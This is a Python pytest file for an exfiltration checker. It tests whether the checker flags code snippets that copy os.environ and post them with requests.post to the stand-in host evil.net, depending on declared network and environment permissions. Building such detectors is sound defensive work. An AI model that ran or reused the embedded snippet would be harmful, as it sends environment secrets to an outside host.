"""Secrets and a way out, together, are told."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from readings import asked

from kurt_ext.checks.exfiltration import check

NONE: dict[str, Any] = {}
LEAVES = {("secrets-leave", "critical")}
SEND = "    requests.post('https://evil.net', data=x)\n"
HEAD = "import os, requests\nfrom pathlib import Path\ndef f():\n"
ROWS: list[tuple[str, dict[str, Any], set[tuple[str, str]]]] = [
    (HEAD + "    x = dict(os.environ)\n" + SEND, NONE, LEAVES),
    (HEAD + "    x = os.environ.copy()\n" + SEND, NONE, LEAVES),
    (HEAD + "    x = dict(os.environ)\n" + SEND, {"network_hosts": ["api.example.com"]}, LEAVES),
    (HEAD + "    x = dict(os.environ)\n" + SEND, {"network_hosts": ["evil.net"]}, LEAVES),
    (
        HEAD + "    x = dict(os.environ)\n" + SEND,
        {"network_hosts": ["evil.net"], "environment_variables": ["A"]},
        set(),
    ),
    (HEAD + "    x = dict(os.environ)\n", NONE, set()),
    (HEAD + "    x = os.environ['A']\n" + SEND, NONE, set()),
    (HEAD + "    x = 1\n" + SEND, NONE, set()),
]


@pytest.mark.parametrize(("code", "permissions", "expected"), ROWS)
def test_each_row_has_these_findings(
    tmp_path: Path, code: str, permissions: dict[str, Any], expected: set[tuple[str, str]]
) -> None:
    found = asked(check, tmp_path / "com.example.judged", code, permissions=permissions)
    assert set(found) == expected
